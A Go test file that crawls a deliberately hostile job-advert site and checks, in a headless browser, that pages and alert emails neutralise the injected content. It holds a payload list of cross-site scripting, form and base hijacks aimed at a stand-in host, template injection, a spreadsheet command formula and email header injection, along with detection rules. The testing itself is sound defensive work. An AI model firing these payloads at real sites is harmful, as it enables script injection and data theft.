package main

import (
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sendwatch/sendwatch"
	"github.com/sendwatch/sendwatch/configs"
	"github.com/sendwatch/sendwatch/internal/browsertest"
	"github.com/sendwatch/sendwatch/store"
)

// canary is the host that hostile adverts would have a browser ask. Nobody has it.
const canary = "canary.example"

// attacks are what hostile adverts hold, by name. Each would, if it were let, ask
// something of the canary, set window.canary, or break the page around it.
var attacks = map[string]string{
	"script":          `<script>window.canary=1;alert("canary")</script>`,
	"script-source":   `<script src="http://canary.example/a.js"></script><script type="module" src="//canary.example/b.js"></script>`,
	"script-in-title": `</title><script>window.canary=1</script></textarea><script>window.canary=1</script></style><script>window.canary=1</script>`,
	"script-in-noise": `<!--><script>window.canary=1</script>--><![CDATA[<script>window.canary=1</script>]]>]]><script>window.canary=1</script>`,
	"entities":        `&lt;script&gt;window.canary=1&lt;/script&gt;&amp;lt;img src=x onerror=window.canary=1&amp;gt;&#60;script&#62;window.canary=1&#60;/script&#62;`,
	"handlers":        `<img src=x onerror="window.canary=1"><details open ontoggle="window.canary=1"><summary>x</summary></details><marquee onstart="window.canary=1">x</marquee>`,
	"attribute":       `" autofocus tabindex=1 onfocus="window.canary=1" x='' onmouseover='window.canary=1' y=` + "`",
	"addresses":       `<a href="javascript:window.canary=1">one</a> <a href=" &#1;java&#9;script:window.canary=1">two</a> <a href="data:text/html,<script>1</script>">three</a> <a href="vbscript:x">four</a>`,
	"pictures":        `<img src="http://canary.example/a.png" srcset="http://canary.example/b.png 2x"><picture><source srcset="//canary.example/c.png"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></picture>`,
	"svg":             `<svg onload="window.canary=1"><script>window.canary=1</script><image href="http://canary.example/s.png"/><use href="data:image/svg+xml,x#y"/><animate onbegin="window.canary=1" attributeName="x" dur="1s"/><a xlink:href="javascript:window.canary=1"><text>x</text></a></svg>`,
	"mathml":          `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.canary=1&gt;"></mglyph></table></mtext><maction actiontype="statusline#http://canary.example" xlink:href="javascript:window.canary=1">x</maction></math>`,
	"noscript":        `<noscript><p title="</noscript><img src=x onerror=window.canary=1>"></noscript><xmp><p title="</xmp><img src=x onerror=window.canary=1>"></xmp>`,
	"refresh":         `<meta http-equiv="refresh" content="0;url=http://canary.example/r"><meta http-equiv="Content-Security-Policy" content="default-src *">`,
	"base":            `<base href="http://canary.example/" target="_blank"><link rel="stylesheet" href="http://canary.example/a.css"><link rel="preload" as="image" href="http://canary.example/p"><link rel="dns-prefetch" href="//canary.example"><link rel="preconnect" href="http://canary.example"><link rel="manifest" href="http://canary.example/m">`,
	"forms":           `<form action="http://canary.example/f"><input name="q" autofocus onfocus="window.canary=1"><button formaction="http://canary.example/g">Apply</button><input type="image" src="http://canary.example/i"></form>`,
	"half-form":       `</form></main></body><form method="post" action="http://canary.example/f"><input type="hidden" name="do" value="erase">`,
	"frames":          `<iframe src="http://canary.example/f"></iframe><iframe srcdoc="<script>top.canary=1</script>"></iframe><object data="http://canary.example/o"></object><embed src="http://canary.example/e"><frameset><frame src="http://canary.example"></frameset>`,
	"media":           `<video autoplay poster="http://canary.example/p" src="http://canary.example/v"></video><audio autoplay src="http://canary.example/a"></audio><body background="http://canary.example/b"><table background="http://canary.example/t"><tr><td background="http://canary.example/d">x</td></tr></table>`,
	"style":           `<style>@import url(http://canary.example/i.css); body { background: url(http://canary.example/b) } main { display: none }</style><p style="background: url(http://canary.example/s); position: fixed; inset: 0; z-index: 9">covered</p>`,
	"shadow":          `<div><template shadowrootmode="open"><img src="http://canary.example/s"><script>window.canary=1</script></template></div><dialog open>x</dialog><slot onslotchange="window.canary=1"></slot>`,
	"ping":            `<a href="http://canary.example/a" ping="http://canary.example/ping" target="_blank" attributionsrc="http://canary.example/at">Apply here</a><area href="http://canary.example">`,
	"plaintext":       `<plaintext><textarea><title><option><select><table><tr><caption>`,
	"templates":       `{{.Links.Key}} {{template "main" .}} {{printf "%s" .}} ${7*7} #{7*7} <%= 7*7 %> %{7*7} [[7*7]] {%include "x"%}`,
	"directions":      "\u202eTNATSISSA\u202c \u2066pay\u2067 \u200f\u061c \u200b\u200d\ufeff\u2028\u2029 e" + strings.Repeat("\u0301", 200),
	"long-word":       strings.Repeat("W", 5000) + " " + strings.Repeat("🧑‍🏫", 300),
	"controls":        "a\x00b\x01c\x08d\x1b[2Je\x7f\u0085f\ufffe",
	"lines":           "Assistant\r\nBcc: everyone@canary.example\r\nContent-Type: text/html\r\n\r\n<script>window.canary=1</script>",
	"formulas":        `=HYPERLINK("http://canary.example/x","Apply") +cmd|' /C calc'!A0 @SUM(1+1) -2+3` + "\t=1+1",
	"json":            `</script><script>window.canary=1</script>"}]}],"title":"x\u2028\ud800\u0000\"`,
	"broken":          "caf\xe9 \xff\xfe\xc3\x28 \xf0\x9f\x92",
}

// attackNames are their names, in order.
func attackNames() []string {
	var out []string
	for name := range attacks {
		out = append(out, name)
	}
	slices.Sort(out)
	return out
}

// advertSite is a job site on which every field of every advert is hostile. It
// publishes them as JobPosting data, as plain pages, and some that cannot be read.
func advertSite() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /sitemap.xml", func(w http.ResponseWriter, r *http.Request) {
		var b strings.Builder
		for _, name := range attackNames() {
			fmt.Fprintf(&b, "<url><loc>http://%s/job/%s</loc></url>", r.Host, name)
		}
		w.Header().Set("Content-Type", "application/xml")
		fmt.Fprintf(w, `<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">%s</urlset>`, b.String())
	})
	mux.HandleFunc("GET /list", func(w http.ResponseWriter, _ *http.Request) {
		for _, name := range append(attackNames(), "unreadable") {
			fmt.Fprintf(w, `<p><a class="post" href="/plain/%s">%s</a></p>`, name, html.EscapeString(attacks[name]))
		}
	})
	mux.HandleFunc("GET /job/{name}", func(w http.ResponseWriter, r *http.Request) { _, _ = w.Write(structured(r.PathValue("name"))) })
	mux.HandleFunc("GET /plain/{name}", func(w http.ResponseWriter, r *http.Request) { _, _ = w.Write(plainPage(r.PathValue("name"))) })
	mux.HandleFunc("GET /files/{name}", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/pdf")
		_, _ = w.Write([]byte("%PDF-1.7 <script>window.canary=1</script>"))
	})
	return mux
}

// sentence is what makes an advert one that is in scope, so that its page is shown.
func sentence(name string) string {
	return "We seek a teaching assistant to support pupils with social, emotional and mental health (SEMH) needs. You will hold a level 2 qualification. This is advert " + name + ". "
}

// structured is an advert as JobPosting data.
func structured(name string) []byte {
	bad := attacks[name]
	data, err := json.Marshal(map[string]any{
		"@context": "https://schema.org", "@type": "JobPosting",
		"title":              "SEMH Teaching Assistant " + bad,
		"description":        "<p>" + sentence(name) + "</p>" + bad + "<p>" + html.EscapeString(bad) + "</p>",
		"hiringOrganization": map[string]any{"@type": "Organization", "name": "School " + name + " " + bad, "sameAs": "javascript:window.canary=1", "logo": "http://canary.example/logo.png"},
		"jobLocation":        map[string]any{"@type": "Place", "address": map[string]any{"addressLocality": "Reading " + bad, "postalCode": "RG30 " + bad}},
		"baseSalary":         map[string]any{"@type": "MonetaryAmount", "currency": "GBP", "value": map[string]any{"value": bad, "unitText": bad}},
		"workHours":          bad, "employmentType": bad, "validThrough": bad, "datePosted": bad, "jobBenefits": bad, "qualifications": bad,
		"url": "javascript:window.canary=1", "identifier": bad,
	})
	if err != nil {
		panic(err) // texts always have a JSON form
	}
	return []byte(`<!doctype html><title>` + bad + `</title><script type="application/ld+json">` + string(data) + `</script>` + bad)
}

// plainPage is an advert as a page that is read by rules. The one called unreadable
// lacks what every advert has.
func plainPage(name string) []byte {
	bad := attacks[name]
	if name == "unreadable" {
		return []byte(`<!doctype html><p class="body">` + strings.Join(slices.Collect(func(yield func(string) bool) {
			for _, n := range attackNames() {
				if !yield(attacks[n]) {
					return
				}
			}
		}), "\n"))
	}
	safe := html.EscapeString(bad)
	return []byte(`<!doctype html><h1>SEMH Teaching Assistant ` + safe + `</h1><p class="employer">Academy ` + name + ` ` + safe + `</p><p class="location">Reading ` + safe +
		`</p><p class="pay">£` + safe + ` £12.60 an hour</p><p class="hours">` + safe + `</p><p class="contract">` + safe + `</p><p class="closes">` + safe +
		`</p><div class="body"><p>` + sentence(name+" again") + `</p><p><a href="/files/` + name + `.pdf">Job description ` + safe + `</a></p>` + bad + `<p>` + safe + `</p></div>`)
}

// advertSources are the definitions under which the site is crawled.
func advertSources(address string) []configs.Source {
	none := time.Duration(0)
	return []configs.Source{
		{ID: "structured", Kind: configs.KindJobPosting, URL: address, Every: "1s", AllowPrivate: true, Delay: &none, Discover: configs.Discover{Sitemap: "/sitemap.xml", Match: "^/job/"}},
		{ID: "plain", Kind: configs.KindHTML, URL: address, Every: "1s", AllowPrivate: true, Delay: &none, Discover: configs.Discover{Listing: "/list", Item: "a.post"},
			Fields: map[string]string{"title": "h1", "employer": ".employer", "location": ".location", "pay": ".pay", "hours": ".hours", "contract": ".contract", "closes": ".closes", "body": ".body"}},
	}
}

// TestHostileAdverts crawls the hostile site with the real crawler and opens every
// page that shows anything of it. No script runs, nothing is asked of another host,
// and nothing of an advert stands in a page as markup.
func TestHostileAdverts(t *testing.T) {
	t.Parallel()
	b := browsertest.Start(t, browsertest.Options{Shots: *shots})
	site := advertSite()
	var mu sync.Mutex
	var visits []string // of browsers
	hostile := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.Contains(r.UserAgent(), "Chrom") {
			mu.Lock()
			visits = append(visits, r.URL.String())
			mu.Unlock()
		}
		site.ServeHTTP(w, r)
	}))
	t.Cleanup(hostile.Close)
	s := openTown(t, advertSources(hostile.URL))
	s.crawl()
	n, err := s.store.Counts(t.Context())
	if err != nil || n.Open < len(attacks) {
		t.Fatalf("%d vacancies are open of %d adverts: too few to prove anything (%v)\n%s", n.Open, 2*len(attacks), err, s.logs.String())
	}

	p := b.Open(t, browsertest.TabOptions{Origin: s.url, Width: 360})
	adverts := searched(t, p)
	if len(adverts) < len(attacks) {
		t.Errorf("the search shows %d adverts of %d", len(adverts), 2*len(attacks))
	}
	for _, at := range adverts {
		p.Go(at, http.StatusOK)
		untouched(t, p, at)
		if got := p.Text("h1") + p.Text(".where"); !strings.Contains(got, "SEMH Teaching Assistant") || notShown.MatchString(got) {
			t.Errorf("%s is called %q", at, got)
		}
		if wide := browsertest.Eval[int](p, `document.documentElement.scrollWidth - innerWidth`); wide > 0 {
			t.Errorf("%s is %d pixels wider than the window: %s", at, wide, p.Text("h1"))
		}
	}
	p.Go(s.signInLink("jo", store.RoleOperator), http.StatusOK).Press("Sign in")
	p.Requests()
	p.Go("/operator", http.StatusOK)
	untouched(t, p, "/operator")
	p.Shoot("hostile-operator")
	unread := p.Addresses(`a[href^="/operator/quarantine"]`)
	if len(unread) == 0 {
		t.Error("nothing is in quarantine: the operator's page proves nothing")
	}
	for _, at := range append(unread, adverts[0]+"/report", "/operator/sources/plain", "/candidate?home=RG30&radius=50&go=1", "/sources", "/alerts/new?q=semh") {
		p.Go(at, http.StatusOK)
		untouched(t, p, at)
	}
	for _, at := range []string{"/api/v1/vacancies?per_page=100", strings.Replace(adverts[0], "/vacancies/", "/api/v1/vacancies/", 1), "/feeds/vacancies.atom"} {
		p.Go(at, http.StatusOK)
		if got := p.Faults(); len(got) > 0 {
			t.Errorf("%s: %q", at, got)
		}
	}
	s.openLetters(t, b)
	if asked := b.Asked(canary); len(asked) > 0 {
		t.Errorf("Chromium asked %q", asked)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(visits) > 0 {
		t.Errorf("Chromium asked the hostile site for %q", visits)
	}
}

// searched opens every page of a search for everything, and returns the addresses of
// what it finds.
func searched(t *testing.T, p *browsertest.Tab) (adverts []string) {
	t.Helper()
	for page := 1; ; page++ {
		at := fmt.Sprintf("/?page=%d", page)
		p.Go(at, http.StatusOK)
		untouched(t, p, at)
		adverts = append(adverts, p.Addresses(".card h3 a")...)
		if len(p.All("a[rel=next]")) == 0 {
			return adverts
		}
	}
}

// openLetters has somebody be told of everything and opens the letters as a careless
// mail program would, without a policy of its own.
func (s *town) openLetters(t *testing.T, b *browsertest.Browser) {
	t.Helper()
	_, err := s.store.Subscribe(t.Context(), store.Signup{Email: "ada@people.example", Frequency: sendwatch.Instant, Confirmed: true,
		Consent: store.Consent{Wording: "Email me.", At: s.now()}})
	if err != nil {
		t.Fatal(err)
	}
	s.deliver()
	letters := s.letters("ada@people.example")
	if len(letters) == 0 {
		t.Fatal("nobody was told of anything")
	}
	careless := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got := httptest.NewRecorder()
		s.sink.Handler().ServeHTTP(got, r)
		w.Header().Set("Content-Type", got.Header().Get("Content-Type"))
		_, _ = w.Write(got.Body.Bytes())
	}))
	t.Cleanup(careless.Close)
	p := b.Open(t, browsertest.TabOptions{Origin: careless.URL, Width: 360})
	for _, m := range letters {
		p.Go(fmt.Sprintf("/%d/html", m.Number), http.StatusOK)
		p.Shoot(fmt.Sprintf("hostile-letter-%d", m.Number))
		for _, f := range browsertest.Eval[[]string](p, inLetter) {
			t.Errorf("letter %d: %s", m.Number, f)
		}
		if m.Header("Bcc") != "" || strings.Contains(m.Header("Content-Type"), "html") {
			t.Errorf("an advert wrote headers of letter %d", m.Number)
		}
	}
}

// inLetter lists what of a letter only an advert can have put there.
const inLetter = `[
	...(window.canary === undefined ? [] : ["a script ran"]),
	...[...document.querySelectorAll("script, iframe, object, embed, img, svg, math, form, input, base[href], link, meta[http-equiv=refresh], [onload], [onerror], [onfocus]")].map(e => "an element " + e.outerHTML.slice(0, 200)),
	...[...document.links].filter(a => !/^https?:/.test(a.href)).map(a => "the address " + a.href),
]`

// strange lists what of the page nobody but an advert can have put there.
const strange = `[
	...(window.canary === undefined ? [] : ["a script ran"]),
	...(/ – Sendwatch$/.test(document.title) ? [] : ["the title is " + document.title]),
	...[...document.querySelectorAll("script, style, iframe, frame, object, embed, base, meta[http-equiv], svg, math, img, picture, video, audio, template, dialog, noscript, xmp, plaintext, link:not([rel=stylesheet]):not([rel=icon]):not([rel=alternate])")].map(e => "an element " + e.outerHTML.slice(0, 200)),
	...[...document.querySelectorAll("*")].flatMap(e => [...e.attributes].filter(a => /^on|^style$|^ping$|^background$|^srcset$|^formaction$|^target$/i.test(a.name)).map(a => "an attribute " + a.name + " of " + e.outerHTML.slice(0, 200))),
	...[...document.querySelectorAll("[href], [action], [src]")].map(e => e.href || e.action || e.src).filter(a => !/^https?:/.test(a)).map(a => "the address " + a),
	...[...document.forms].filter(f => new URL(f.action).origin !== location.origin).map(f => "a form to " + f.action),
	...(document.querySelectorAll("body > main").length === 1 && document.querySelectorAll("body > footer").length === 1 ? [] : ["the page is broken up"]),
]`

// notShown are characters that no name may hold: some are nothing to read, and some
// turn the direction of the text around them.
var notShown = regexp.MustCompile(`[\x00-\x1f\x7f-\x{9f}\x{61c}\x{200e}\x{200f}\x{202a}-\x{202e}\x{2066}-\x{2069}]`)

// untouched checks that a page is as the site made it.
func untouched(t *testing.T, p *browsertest.Tab, at string) {
	t.Helper()
	for _, f := range p.Faults() {
		t.Errorf("%s: %s", at, f)
	}
	for _, f := range browsertest.Eval[[]string](p, strange) {
		t.Errorf("%s: %s", at, f)
	}
	for _, a := range p.Requests() {
		u, err := url.Parse(a)
		if err != nil || !strings.HasPrefix(u.Path, "/static/") && !strings.HasSuffix(a, at) && a != browsertest.Eval[string](p, "location.href") {
			t.Errorf("%s: a request for %s", at, a)
		}
	}
}
